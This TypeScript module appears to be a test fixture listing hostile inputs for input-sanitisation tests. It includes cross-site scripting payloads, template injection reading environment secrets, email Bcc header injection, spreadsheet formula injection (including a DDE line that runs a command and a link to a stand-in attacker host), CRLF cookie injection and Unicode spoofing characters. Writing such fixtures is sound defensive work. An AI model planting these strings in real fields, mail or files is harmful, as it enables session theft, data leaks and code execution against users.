/** What somebody may write who means a reader, a mail client, a spreadsheet or a browser ill, each on one line. */
export const evilLines = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></head><body onload=alert(1)>',
  '</p></main><form action="https://evil.example"><input name=p>',
  '<!--',
  ']]><svg/onload=alert(1)>',
  '&lt;b&gt; &#x3c;script&#x3e; &amp;',
  '<a href="javascript:alert(1)">here</a>',
  '[here](https://evil.example) ![x](https://evil.example/x.png) **bold** `code`',
  '{{subject}} {{{html}}} {{#each x}}{{/each}} {{../secret}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes
  '${process.env.SECRET} <%= 7*7 %> #{7*7} %(x)s $& $1 $`',
  'mailto:x@evil.example?bcc=y@evil.example',
  'Subject: other; Bcc: y@evil.example',
  '=HYPERLINK("https://evil.example";"here")',
  '+1-1',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  'x;=1+1',
  'BEGIN:VEVENT;X=1:END:VEVENT,\\n\\;',
  '\\r\\nATTACH:https://evil.example',
] as const;

/** The same and worse, on several lines: what one-line fields refuse. */
export const evilTexts = [
  ...evilLines,
  'one\nBcc: y@evil.example\n\n<script>alert(1)</script>',
  'one\r\nSet-Cookie: a=b',
  '\n=1+1',
  '\t=1+1',
  'x\ty\n@SUM(1)',
  '\n.\nQUIT',
  '--\n> quoted\n~~~',
] as const;

/** What no field takes: it would be read as something else than is written. */
export const refusedTexts = [
  'a\u0000b',
  'a\u001b[31m',
  '\ud800',
  '\u202egnp.exe',
  '\u2066x\u2069',
  'a\u200bb',
  'a\u200fb',
  'a\u061cb',
  'a\u2028b',
  'a\u2029b',
  'a\u2060b',
  '\ufeff=1+1',
] as const;
